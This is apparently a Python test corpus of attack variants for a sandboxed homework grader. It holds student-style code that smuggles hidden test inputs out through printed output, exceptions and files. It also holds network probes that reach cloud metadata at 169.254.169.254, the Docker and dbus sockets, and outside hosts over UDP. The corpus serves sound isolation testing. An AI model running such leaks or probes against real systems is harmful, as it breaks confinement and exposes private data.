"""Hidden inputs carried out of the box."""

from tests.attacks.corpus import variant

inputs_in_feedback = variant(
    "Carry hidden inputs out through everything a student reads: prints, exceptions, values, keys, types, exit codes.",
    small_graph='''
import sys, threading, time
import numpy as np
kept = []
def told(*arrays):
    """What to carry out: the test finds these marks and asks whether the numbers behind them are public."""
    numbers = [repr(float(v)) for a in arrays for v in np.ravel(a)[:4]]
    kept.append("INPUT<" + " ".join(numbers) + ">")
    print(kept[-1])
    print(kept[-1], file=sys.__stdout__)
    return kept[-1]

def repeat():
    for _ in range(100):
        time.sleep(0.1)
        for text in kept[-5:]:
            print(text, flush=True)
threading.Thread(target=repeat, daemon=True).start()
def small_graph(x, y, z):
    raise ValueError(told(x, y, z))''',
    numerical_gradient="def numerical_gradient(f, x, h=1e-5): return told(x)",
    two_layer_forward="def two_layer_forward(x, params):\n    told(x)\n    return x, None",
    two_layer_backward="def two_layer_backward(dscores, cache): return {told(dscores): dscores}",
    softmax_cross_entropy="""
def softmax_cross_entropy(scores, labels):
    raise type(told(scores), (Exception,), {})(told(scores))""",
    train="""
def train(x, labels, params, learning_rate, batches):
    with open("kept.txt", "a") as file:
        file.write(told(*params.values()))
    return told(*params.values()), "".join(kept)""",
)

network = variant(
    "Carry hidden inputs out by TCP, UDP, DNS, unix sockets and cloud metadata.",
    with_wrong="""
import glob, os, socket, urllib.request
import numpy as np
def attempt(name, action):
    try:
        action()
        print("STOLEN way out:", name)
    except OSError as error:
        print(name, type(error).__name__)

def tcp(host, port):
    socket.create_connection((host, port), timeout=0.2).close()

def udp(host, port):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sender:
        sender.connect((host, port))
        sender.send(b"STOLEN inputs")

def unix(path):
    with socket.socket(socket.AF_UNIX) as sender:
        sender.connect(path)

PORT = LISTENING_PORT
others = [path for path in glob.glob("/var/tmp/*/k-1") if not os.environ["HOME"].startswith(os.path.dirname(path))]
attempt("tcp to the host", lambda: tcp("127.0.0.1", PORT))
for host in ("169.254.169.254", "8.8.8.8", "10.0.0.1", "192.168.0.1"):
    attempt(f"tcp to {host}", lambda host=host: tcp(host, 80))
    attempt(f"udp to {host}", lambda host=host: udp(host, 53))
attempt("dns", lambda: socket.getaddrinfo("example.org", 80))
attempt("http", lambda: urllib.request.urlopen("http://example.org", timeout=0.2))
attempt("abstract socket", lambda: unix("\\0LISTENING_NAME"))
for path in ("/var/run/docker.sock", "/run/dbus/system_bus_socket", *glob.glob("/tmp/agz*/s"), *others):
    attempt(path, lambda path=path: unix(path))""",
    tier="files",
    unsafe=True,
)
